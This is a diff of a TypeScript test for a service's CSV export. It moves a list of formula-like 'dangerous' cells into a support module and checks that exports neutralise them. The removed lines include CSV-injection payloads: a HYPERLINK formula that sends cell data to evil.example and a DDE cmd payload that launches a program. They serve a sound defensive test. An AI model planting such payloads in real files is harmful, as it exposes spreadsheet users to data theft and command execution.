@@ -6,7 +6,7 @@ import { describe, it } from 'node:test';
 import { DuckDBInstance } from '@duckdb/node-api';
 import fc from 'fast-check';
 import { type ExportFormatName, exportFormats, writeCsv } from '../../../service/api/rows/export-formats.ts';
-import { directory, toCsv } from '../../support/directory.ts';
+import { directory } from '../../support/directory.ts';
 import { siteCategories } from '../../support/interface-contract.ts';
 import {
   exportedColumns,
@@ -20,6 +20,7 @@ import { naiveTables, parametersOf, sortedRows } from '../../support/interface-n
 import { askedArbitrary } from '../../support/interface-questions.ts';
 import { useDescribedService } from '../../support/interface-service.ts';
 import { runs } from '../../support/lane.ts';
+import { dangerous, oddTree } from '../../support/odd-tree.ts';
 import { makeColumn } from '../../support/service-columns.ts';
 import { queryOf, type RowsParameters } from '../../support/service-paths.ts';
 import { makeTemporaryFolder } from '../../support/temporary-folder.ts';
@@ -159,59 +160,15 @@ describe("exports of the project's own sources", () => {
   });
 });
 
-/** Cells that a spreadsheet would run, and cells that only look a little like them. */
-const dangerous = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example/?"&A1;"press")',
-  "=cmd|' /C calc'!A0",
-  '+49 30 1234',
-  '-5% for students',
-  '@SUM(1;2)',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠x',
-];
-const harmless = [
-  "it's = fine",
-  "'quoted'",
-  'a,b;c',
-  '"both"',
-  'two\nlines',
-  'tail=',
-  ' '.repeat(2),
-  '[a](=b)',
-  '{"a":1}',
-];
-
 describe('exports of cells that begin like formulas', () => {
-  const records = [...dangerous, ...harmless].map((cell, at) => ({
-    slug: `cell-${String(at).padStart(2, '0')}`,
-    provider: at % 2 === 0 ? '=Sum & Co' : 'Aardvark',
-    planName: cell,
-    planType: 'Free',
-    apiType: 'RPC',
-    technology: dangerous[at] ?? 'Custom',
-    chain: 'mainnet',
-    starred: false,
-    trial: true,
-    regions: [cell.trim() === '' ? 'Europe' : cell, '=1+1'],
-  }));
-  const providers = `${directory['references/providers/providers.csv']}sum,=Sum & Co,,,,,,,,,,,,\n`;
-  const few = Object.entries(directory).filter(([file]) => !/^listings|sets.csv/.test(file));
-  const tree = {
-    ...Object.fromEntries(few),
-    'references/providers/providers.csv': providers,
-    'listings/specific-networks/aria/apis.csv': toCsv(records),
-  };
-  const service = useDescribedService(tree);
+  const service = useDescribedService(oddTree);
 
   it('give the rows back, and have no cell that a spreadsheet would run', async () => {
-    await assertExports(service, 'aria', { category: 'apis' });
-    const rows = await service.allRows('aria', { category: 'apis' });
+    await assertExports(service, 'bora', { category: 'apis' });
+    const rows = await service.allRows('bora', { category: 'apis' });
     const cells = new Set(rows.map(({ planName }) => planName));
     for (const cell of dangerous) assert.ok(cells.has(cell), `${cell} is in the rows as it was written`);
-    const { text } = await service.get(exportOf('aria', 'csv', { category: 'apis' }));
+    const { text } = await service.get(exportOf('bora', 'csv', { category: 'apis' }));
     for (const cell of dangerous) assert.ok(text.includes(`'${cell.replaceAll('"', '""')}`), cell);
   });
 
